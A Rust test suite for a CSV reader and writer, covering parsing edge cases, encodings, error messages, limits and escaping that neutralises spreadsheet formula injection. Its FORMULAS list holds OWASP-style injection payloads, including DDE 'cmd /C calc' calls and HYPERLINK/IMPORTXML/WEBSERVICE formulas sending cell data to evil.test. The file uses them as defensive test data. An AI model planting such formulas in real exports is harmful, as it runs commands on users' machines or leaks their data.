//! Tests of reading and writing; the fuzz target `csv` compares the reader with a second one.

use proptest::prelude::*;

use super::*;

/// The names of the columns, then the row and the values of each record.
type Told = (Vec<String>, Vec<(u32, Vec<String>)>);

fn told(table: &Table) -> Told {
    let records = table.records();
    let records = records.map(|record| (record.row, record.values().map(str::to_owned).collect()));
    (table.columns().to_vec(), records.collect())
}

fn read(text: &str) -> Told {
    told(&read_text(text, None).unwrap())
}

fn texts(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

fn expect(columns: &[&str], records: &[(u32, &[&str])]) -> Told {
    let records = records.iter().map(|(row, values)| (*row, texts(values)));
    (texts(columns), records.collect())
}

/// Row, column and code of each problem.
fn wrong(bytes: &[u8]) -> Vec<(u32, Option<String>, &'static str)> {
    let problems = read_bytes(bytes, None).unwrap_err();
    assert_eq!(problems.total, problems.first.len());
    let told = |problem: Problem| (problem.row, problem.column, problem.kind.code());
    problems.first.into_iter().map(told).collect()
}

fn written(columns: &[&str], rows: &[&[&str]], delimiter: Delimiter, bom: bool) -> String {
    let mut writer = Writer::new(texts(columns), delimiter, bom).unwrap();
    for row in rows {
        writer.row(&texts(row)).unwrap();
    }
    writer.finish()
}

fn again((columns, records): &Told, delimiter: Delimiter, bom: bool) -> String {
    let mut writer = Writer::new(columns.clone(), delimiter, bom).unwrap();
    for (_, values) in records {
        writer.row(values).unwrap();
    }
    writer.finish()
}

/// Cases as every reader has to know them, among them those that the corpus csv-spectrum names.
#[test]
fn what_others_write_is_read_and_is_the_same_once_written_again() {
    let cases: &[(&str, Told)] = &[
        (
            "a,b,c\n1,2,3\n",
            expect(&["a", "b", "c"], &[(2, &["1", "2", "3"])]),
        ),
        (
            "a,b,c\r\n1,2,3\r\n4,5,6",
            expect(
                &["a", "b", "c"],
                &[(2, &["1", "2", "3"]), (3, &["4", "5", "6"])],
            ),
        ),
        (
            "a,b\r1,2\r3,4\r",
            expect(&["a", "b"], &[(2, &["1", "2"]), (3, &["3", "4"])]),
        ),
        (
            "name,street,town\nJo,\"1, Long Lane\",Ek\n",
            expect(
                &["name", "street", "town"],
                &[(2, &["Jo", "1, Long Lane", "Ek"])],
            ),
        ),
        (
            "a,b,c\n1,\"\",\"\"\n,,\n",
            expect(&["a", "b", "c"], &[(2, &["1", "", ""]), (3, &["", "", ""])]),
        ),
        (
            "a,b\n1,\"so \"\"he\"\" said\"\n",
            expect(&["a", "b"], &[(2, &["1", "so \"he\" said"])]),
        ),
        (
            "key,value\n1,\"{\"\"type\"\": \"\"Point\"\", \"\"at\"\": [102.0, 0.5]}\"\n",
            expect(
                &["key", "value"],
                &[(2, &["1", "{\"type\": \"Point\", \"at\": [102.0, 0.5]}"])],
            ),
        ),
        (
            "a,b,c\n1,2,3\n\"Once upon\na time\",5,6\n7,8,9\n",
            expect(
                &["a", "b", "c"],
                &[
                    (2, &["1", "2", "3"]),
                    (3, &["Once upon\na time", "5", "6"]),
                    (5, &["7", "8", "9"]),
                ],
            ),
        ),
        (
            "a,b\r\n\"x\r\ny\r\n\r\nz\",5\r\n7,8\r\n",
            expect(
                &["a", "b"],
                &[(2, &["x\r\ny\r\n\r\nz", "5"]), (6, &["7", "8"])],
            ),
        ),
        (
            "a,b\n1,\"\"\"\n\"\"\"\n2,x\n",
            expect(&["a", "b"], &[(2, &["1", "\"\n\""]), (4, &["2", "x"])]),
        ),
        (
            "a,b\n1,ʤ\n2,😀 ünï\n",
            expect(&["a", "b"], &[(2, &["1", "ʤ"]), (3, &["2", "😀 ünï"])]),
        ),
        (
            "\n\r\n\ra\n\n x \n\"\"\n\n",
            expect(&["a"], &[(6, &[" x "]), (7, &[""])]),
        ),
        ("a;b\n1,5;2\n", expect(&["a", "b"], &[(2, &["1,5", "2"])])),
        ("a\tb\n1\t2\n", expect(&["a", "b"], &[(2, &["1", "2"])])),
        (
            "\"x,y,z\";b\n1;2\n",
            expect(&["x,y,z", "b"], &[(2, &["1", "2"])]),
        ),
        (
            " name , mail\nJo, x\n",
            expect(&["name", "mail"], &[(2, &["Jo", " x"])]),
        ),
        (
            "__proto__,constructor\n1,2\n",
            expect(&["__proto__", "constructor"], &[(2, &["1", "2"])]),
        ),
        ("a,b", expect(&["a", "b"], &[])),
        ("a,b\n1,", expect(&["a", "b"], &[(2, &["1", ""])])),
    ];
    for (text, expected) in cases {
        let table = read(text);
        assert_eq!(&table, expected, "{text:?}");
        for delimiter in Delimiter::ALL {
            for bom in [false, true] {
                let text = again(&table, delimiter, bom);
                let values = |(columns, records): Told| -> (Vec<_>, Vec<_>) {
                    (
                        columns,
                        records.into_iter().map(|(_, values)| values).collect(),
                    )
                };
                let read = values(told(&read_bytes(text.as_bytes(), Some(delimiter)).unwrap()));
                assert_eq!(read, values(table.clone()), "{text:?}");
            }
        }
    }
}

#[test]
fn every_encoding_with_its_mark_is_the_same_text() {
    let text = "naïve,😀\r\n\"1\n2\",ʤ\r\n";
    let expected = expect(&["naïve", "😀"], &[(2, &["1\n2", "ʤ"])]);
    let marked = ["\u{feff}", text].concat();
    let utf16 = |bytes: fn(u16) -> [u8; 2]| marked.encode_utf16().flat_map(bytes).collect();
    let files: [Vec<u8>; 4] = [
        text.as_bytes().to_vec(),
        marked.as_bytes().to_vec(),
        utf16(u16::to_le_bytes),
        utf16(u16::to_be_bytes),
    ];
    for file in files {
        assert_eq!(
            told(&read_bytes(&file, None).unwrap()),
            expected,
            "{file:?}"
        );
    }
    assert_eq!(read(&marked), expected);
}

#[test]
fn every_problem_names_its_row_and_its_column() {
    let in_b = |row, code| vec![(row, Some("b".to_owned()), code)];
    let whole = |row, code| vec![(row, None, code)];
    for (file, expected) in [
        ("", whole(1, "empty")),
        ("\r\n\n", whole(1, "empty")),
        ("a,b\n1,2\n1,\"2\n3,4\n", in_b(3, "unended_quote")),
        ("a,b\n\"1\n\",\"2", in_b(2, "unended_quote")),
        ("a,b\n1,2\n1,\"2\"3\n4,5", in_b(3, "text_after_quote")),
        ("a,b\n1,\"2\" \n", in_b(2, "text_after_quote")),
        ("a,b\n\n\n1,2\"3\"\n", in_b(4, "quote_in_text")),
        ("a,b\n1, \"2\"\n", in_b(2, "quote_in_text")),
        ("a,b\n1,2\n1,2\0\n", in_b(3, "nul")),
        ("a,b\n\"x\r\ny\",2\r1\r\n", whole(4, "field_count")),
        ("a,b\n1,2,3\n", whole(2, "field_count")),
        ("a,b\n1\n", whole(2, "field_count")),
        ("\na, ,b\n", whole(2, "unnamed_column")),
        ("a,b,\n1,2,3", whole(1, "unnamed_column")),
        ("a,b,b ", in_b(1, "repeated_column")),
    ] {
        assert_eq!(wrong(file.as_bytes()), expected, "{file:?}");
    }
    assert_eq!(wrong(b"a,b\n1,2\n3,\xff\xfe\n"), in_b(3, "encoding"));
    // Half a pair, and half a unit.
    assert_eq!(
        wrong(b"\xff\xfea\0\n\0\0\xd8"),
        [(2, Some("a".to_owned()), "encoding")]
    );
    assert_eq!(
        wrong(b"\xfe\xff\0a\0\n\0"),
        [(2, Some("a".to_owned()), "encoding")]
    );
}

#[test]
fn all_problems_are_told_and_of_many_the_first_hundred() {
    let file = "a,a,\n\"1\"x,2\"\n\0,2,3\n1,2,\"";
    let codes: Vec<_> = wrong(file.as_bytes())
        .into_iter()
        .map(|(row, _, code)| (row, code))
        .collect();
    let expected = [
        (1, "repeated_column"),
        (1, "unnamed_column"),
        (2, "text_after_quote"),
        (2, "quote_in_text"),
        (2, "field_count"),
        (3, "nul"),
        (4, "unended_quote"),
    ];
    assert_eq!(codes, expected);
    let problems = read_text(&["a,b\n", &"1\n".repeat(321)].concat(), None).unwrap_err();
    assert_eq!((problems.total, problems.first.len()), (321, MOST_PROBLEMS));
    let rows = problems.first.iter().map(|problem| problem.row);
    assert!(rows.eq(2..102));
}

#[test]
fn messages_have_the_numbers() {
    let message = |file: &str| read_text(file, None).unwrap_err().first[0].message();
    assert_eq!(
        message("a,b\n1"),
        "the number of fields is 1, that of columns 2"
    );
    assert_eq!(message("a,"), "column 2 has no name");
    assert_eq!(
        message(&",".repeat(MOST_COLUMNS)),
        "257 columns are more than 256"
    );
    assert_eq!(
        message(&"a".repeat(LONGEST + 1)),
        "the file is larger than 16 MiB"
    );
}

#[test]
fn a_file_has_at_most_so_many_bytes_and_columns() {
    let columns: Vec<_> = (0..=MOST_COLUMNS)
        .map(|number| number.to_string())
        .collect();
    assert_eq!(read(&columns[1..].join(",")).0.len(), MOST_COLUMNS);
    assert_eq!(
        wrong(columns.join(",").as_bytes()),
        [(1, None, "too_many_columns")]
    );
    let longest = ["a\n", &"x".repeat(LONGEST - 2)].concat();
    assert_eq!(read(&longest).1.len(), 1);
    assert_eq!(
        wrong([&longest, "x"].concat().as_bytes()),
        [(1, None, "too_large")]
    );
    let marked = ["\u{feff}", &longest].concat();
    let utf16: Vec<u8> = marked.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(read_bytes(&utf16, None).is_ok());
    let twice = [&utf16[..], b"x\0"].concat();
    assert_eq!(wrong(&twice), [(1, None, "too_large")]);
}

/// Each would take minutes if any step looked at what is before it again.
#[test]
fn what_is_large_is_read_in_one_go() {
    let half = 1 << 20;
    for (file, total) in [
        ("\"\"".repeat(half), 0),
        (",".repeat(half), 1),
        (["a\n", &"'".repeat(half)].concat(), 0),
        (["a\n", &" ".repeat(half)].concat(), 0),
        (["a\n", &"\"\n".repeat(half / 2)].concat(), 0),
        (["a\n", &"\0\n".repeat(half / 2)].concat(), half / 2),
        ("\r\n".repeat(half), 1),
    ] {
        let problems = read_text(&file, None)
            .err()
            .map_or(0, |problems| problems.total);
        assert_eq!(problems, total, "{:?}", &file[..20]);
    }
    let rows: Vec<_> = (0..100_000)
        .map(|number| format!("{number},\"x\ny\",=1\n"))
        .collect();
    let (_, records) = read(&["a,b,c\n", &rows.concat()].concat());
    assert_eq!(records.len(), 100_000);
    assert_eq!(records[99_999], (200_000, texts(&["99999", "x\ny", "=1"])));
}

/// As OWASP's page on CSV injection and those it points to have them, and each of its characters behind blanks.
const FORMULAS: [&str; 33] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"https://evil.test?leak=\"&A1&A2,\"Error\")",
    "=IMPORTXML(CONCAT(\"https://evil.test?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    "=IMAGE(\"https://evil.test/x.png\")",
    "=WEBSERVICE(\"https://evil.test\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=1+1\";=1+2",
    "=1+2'\" ;,=1+2",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+41 44 000 00 00",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@jo",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\n=1+1",
    "\n",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u{a0}\u{3000}=1+1",
    "\u{feff}=1+1",
    "'=1+1",
    "''' @jo",
];

#[test]
fn formulas_are_written_as_texts_and_read_as_they_were() {
    for formula in FORMULAS {
        for delimiter in Delimiter::ALL {
            let name = formula.trim();
            let columns = [if is_formula(name) { name } else { "a" }, "b"];
            let file = written(&columns, &[&["x", formula]], delimiter, false);
            let cells = plain(&file, delimiter);
            assert!(cells.concat().iter().all(|cell| !is_live(cell)), "{file:?}");
            let read = told(&read_text(&file, Some(delimiter)).unwrap());
            assert_eq!(read.0, texts(&columns), "{file:?}");
            assert_eq!(read.1[0].1, texts(&["x", formula]), "{file:?}");
        }
    }
    let file = written(
        &["a"],
        &[&["=1"], &["'=1"], &["'a"], &["a=1"], &["'"]],
        Delimiter::Comma,
        false,
    );
    assert_eq!(file, "a\r\n'=1\r\n''=1\r\n'a\r\na=1\r\n'\r\n");
}

/// Whether a spreadsheet executes the cell, blanks before it or not.
fn is_live(cell: &str) -> bool {
    let dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let blank = |character: char| character.is_whitespace() || character == '\u{feff}';
    cell.starts_with(dangerous) || cell.trim_start_matches(blank).starts_with(dangerous)
}

/// The cells as they stand in a file without mistakes.
fn plain(file: &str, delimiter: Delimiter) -> Vec<Vec<String>> {
    let mut records = vec![vec![String::new()]];
    let mut quoted = false;
    let mut characters = file.chars().peekable();
    while let Some(character) = characters.next() {
        let record = records.last_mut().unwrap();
        let cell = record.last_mut().unwrap();
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            _ if quoted => cell.push(character),
            '\r' => assert_eq!(characters.next(), Some('\n'), "{file:?}"),
            _ if character == char::from(delimiter.byte()) => record.push(String::new()),
            _ => cell.push(character),
        }
        if character == '\r' && !quoted {
            records.push(vec![String::new()]);
        }
    }
    assert_eq!(
        records.pop(),
        Some(vec![String::new()]),
        "no line end at the end"
    );
    records
}

#[test]
fn what_needs_quotes_has_them_and_nothing_else_does() {
    let row: &[&str] = &["x y", "a,b", "a;b", "a\tb", "\"", "1\n2", "\u{feff}", ""];
    let columns = ["a", "b", "c", "d", "e", "f", "g", "h"];
    assert_eq!(
        written(&columns, &[row], Delimiter::Comma, true),
        "\u{feff}a,b,c,d,e,f,g,h\r\nx y,\"a,b\",\"a;b\",\"a\tb\",\"\"\"\",\"1\n2\",\"\u{feff}\",\r\n"
    );
    assert_eq!(
        written(&["a", "b"], &[&["1,5", "x"]], Delimiter::Semicolon, false),
        "a;b\r\n\"1,5\";x\r\n"
    );
    // Otherwise it were an empty line.
    assert_eq!(
        written(&["a"], &[&[""]], Delimiter::Tab, false),
        "a\r\n\"\"\r\n"
    );
    let marked = written(&["\u{feff}a"], &[], Delimiter::Comma, false);
    assert_eq!(read(&marked).0, ["\u{feff}a"]);
}

#[test]
fn what_could_not_be_read_again_is_not_written() {
    let new = |columns: &[&str]| Writer::new(texts(columns), Delimiter::Comma, false);
    let many: Vec<_> = (0..=MOST_COLUMNS)
        .map(|number| number.to_string())
        .collect();
    let many: Vec<_> = many.iter().map(String::as_str).collect();
    for (columns, place) in [
        (&[][..], "columns"),
        (&many[..], "columns"),
        (&["a", ""], "columns[1]"),
        (&["a", "b "], "columns[1]"),
        (&["a", "b", "a"], "columns[2]"),
        (&["a", "b\0"], "columns[1]"),
    ] {
        assert_eq!(new(columns).err().unwrap().place, place);
    }
    let mut writer = new(&["a", "b"]).unwrap();
    writer.row(&texts(&["1", "2"])).unwrap();
    let place = |outcome: Result<(), Unwritable>| outcome.unwrap_err().place;
    assert_eq!(place(writer.row(&texts(&["1"]))), "rows[1]");
    assert_eq!(place(writer.row(&texts(&["1", "\0"]))), "rows[1].b");
    assert_eq!(writer.finish(), "a,b\r\n1,2\r\n");
    let mut writer = new(&["a"]).unwrap();
    let half = "\"".repeat(LONGEST / 4);
    writer.row(std::slice::from_ref(&half)).unwrap();
    assert_eq!(place(writer.row(&[half])), "rows[1].a");
}

fn cell() -> impl Strategy<Value = String> {
    let character = prop_oneof![
        prop::sample::select(
            "',;\t\"\r\n =+-@＝＋－＠ab\u{feff}\u{a0}"
                .chars()
                .collect::<Vec<_>>()
        ),
        any::<char>().prop_filter("NUL", |character| *character != '\0'),
    ];
    prop::collection::vec(character, 0..8).prop_map(|characters| characters.into_iter().collect())
}

fn table() -> impl Strategy<Value = (Vec<String>, Vec<Vec<String>>)> {
    prop::collection::btree_set(cell(), 1..5).prop_flat_map(|names| {
        let names: std::collections::BTreeSet<_> =
            names.iter().map(|name| name.trim().to_owned()).collect();
        let names: Vec<_> = names
            .into_iter()
            .map(|name| {
                if name.is_empty() {
                    "x_".to_owned()
                } else {
                    name
                }
            })
            .collect();
        let width = names.len();
        let row = prop::collection::vec(cell(), width..=width);
        (Just(names), prop::collection::vec(row, 0..5))
    })
}

proptest! {
    #[test]
    fn what_is_written_is_read_as_the_same_and_has_no_formula(
        (columns, rows) in table(),
        delimiter in prop::sample::select(&Delimiter::ALL[..]),
        bom: bool,
    ) {
        let mut writer = Writer::new(columns.clone(), delimiter, bom).unwrap();
        for row in &rows {
            writer.row(row).unwrap();
        }
        let file = writer.finish();
        let (names, records) = told(&read_bytes(file.as_bytes(), Some(delimiter)).unwrap());
        prop_assert_eq!(names, columns);
        let values: Vec<_> = records.into_iter().map(|(_, values)| values).collect();
        prop_assert_eq!(values, rows);
        let text = file.strip_prefix('\u{feff}').filter(|_| bom).unwrap_or(&file);
        for cell in plain(text, delimiter).concat() {
            prop_assert!(!is_live(&cell), "{:?}", cell);
        }
    }

    #[test]
    fn reading_anything_ends_with_a_table_or_with_rows_of_the_file(
        bytes in prop::collection::vec(prop_oneof![
            prop::sample::select(b",;\t\"\r\n'=a \0\xff\xfe".to_vec()), any::<u8>()
        ], 0..60),
    ) {
        if let Err(problems) = read_bytes(&bytes, None) {
            let lines = bytes.iter().filter(|byte| [b'\r', b'\n'].contains(byte)).count() as u32 + 1;
            prop_assert!(problems.total > 0);
            for problem in problems.first {
                prop_assert!((1..=lines).contains(&problem.row));
            }
        }
    }
}
